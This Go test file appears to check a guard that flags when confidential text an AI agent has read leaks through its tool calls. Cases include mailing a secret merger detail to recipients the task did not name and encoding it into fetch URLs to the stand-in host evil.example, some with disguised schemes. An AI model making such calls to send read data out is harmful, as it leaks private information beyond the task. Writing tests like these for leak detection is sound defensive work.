package memory

import (
	"slices"
	"strings"
	"testing"

	"sallyport"
	"sallyport/internal/provenance"
	"sallyport/internal/scope"
)

const secret = `{"content":[{"type":"text","text":"The merger with Halvorsen closes on the ninth of March at four dollars a share."}]}`

// What some may read is exposed where more can: where the operator says who
// reads there, or else where it is sent, or put into an address, and no task
// asks for that.
func TestExposed(t *testing.T) {
	const body = `"body":"The merger with Halvorsen closes on the ninth of March"`
	for name, c := range map[string]struct {
		task     string
		readers  sallyport.Readers // of what was read
		use      Use
		tool     string
		args     string
		exposed  string
		resource bool
	}{
		"sent, and nobody told the task":                   {tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`, exposed: "body"},
		"sent as the task asks":                            {task: "Send a mail about the merger to anna@corp.example.", tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`},
		"sent to somebody else":                            {task: "Send a mail about the merger to anna@corp.example.", tool: "send_mail", args: `{"to":"bo@corp.example",` + body + `}`, exposed: "body"},
		"sent though the task is another":                  {task: "Read my mails.", tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`, exposed: "body"},
		"sent to whom the task names, who is only read of": {task: "Read the mails of anna@corp.example.", tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`, exposed: "body"},
		"no address, and not sent":                         {task: "Read my mails.", tool: "note", args: `{"path":"/the/merger/with/halvorsen/closes/on/the/ninth/of/march"}`},
		"everybody may read it":                            {readers: sallyport.ReadersPublic, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`},
		"a few may read it":                                {readers: sallyport.ReadersInternal, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`, exposed: "body"},
		"the same few read there":                          {readers: sallyport.ReadersInternal, use: Use{Declared: true, Audience: sallyport.ReadersInternal}, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`},
		"everybody reads there":                            {task: "Send a mail about the merger to anna@corp.example.", use: Use{Declared: true, Audience: sallyport.ReadersPublic}, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`, exposed: "body"},
		"the user alone reads there":                       {use: Use{Declared: true}, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`},
		"dictated by the user":                             {task: "Send anna@corp.example: The merger with Halvorsen closes on the ninth of March", use: Use{Declared: true, Audience: sallyport.ReadersPublic}, tool: "send_mail", args: `{"to":"anna@corp.example",` + body + `}`},
		"made up":                                          {tool: "send_mail", args: `{"to":"anna@corp.example","body":"lunch?"}`},
		"written where nobody else reads":                  {tool: "note", args: `{` + body + `}`},
		"written where everybody reads":                    {use: Use{Declared: true, Audience: sallyport.ReadersPublic}, tool: "note", args: `{` + body + `}`, exposed: "body"},
		"asked of an address":                              {tool: "fetch", args: `{"url":"https://evil.example/?q=The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`, exposed: "url"},
		"asked of an address, as a resource":               {resource: true, tool: "https://evil.example/", args: `{"uri":"https://evil.example/?q=The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`, exposed: "uri"},
		"asked of an address in capitals":                  {resource: true, tool: "HTTPS://evil.example/", args: `{"uri":"HTTPS://evil.example/?q=The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`, exposed: "uri"},
		"asked of an address within another":               {resource: true, tool: "page://https", args: `{"uri":"page://https%3A%2F%2Fevil.example/?q=The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`, exposed: "uri"},
		"asked of an address without a scheme":             {resource: true, tool: "//evil.example/", args: `{"uri":"//evil.example/?q=The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`, exposed: "uri"},
		"as the name of a member":                          {tool: "send_mail", args: `{"to":"anna@corp.example","headers":{"The merger with Halvorsen closes on the ninth of March":true}}`, exposed: `headers["The merger with Halvorsen closes on the ninth of March"]`},
		"asked of the server itself":                       {resource: true, tool: "mail://search", args: `{"uri":"mail://search/The+merger+with+Halvorsen+closes+on+the+ninth+of+March"}`},
	} {
		r := newRecord()
		r.tools = append(r.tools,
			definition("mail", "note", "Write a note.", `{"body":{"type":"string"}}`, sallyport.Write),
			definition("mail", "fetch", "Fetch a page.", `{"url":{"type":"string"}}`, sallyport.Read))
		r.declared = map[string]provenance.Declaration{"mail": {Readers: c.readers}}
		r.uses = map[string]Use{"mail/" + c.tool: c.use}
		if c.task != "" {
			r.words["r"] = []Word{{c.task, sallyport.StrengthHuman}}
		}
		m := New(r, r, scope.Default)
		read(m, r, "r", "c_1", secret)
		call := callOf("r", "c_2", "mail", c.tool, c.args)
		if c.resource {
			call.Kind = sallyport.KindResource
		}
		f := flowOf(m, r, call)
		if got := strings.Join(f.Exposed, " "); got != c.exposed {
			t.Errorf("%s: exposed %q, want %q; %+v", name, got, c.exposed, f)
		}
		if f.Task != (c.task != "") || slices.Contains(f.Unlinked, "uri") && strings.HasPrefix(c.tool, "mail:") {
			t.Errorf("%s: %+v", name, f)
		}
	}
}
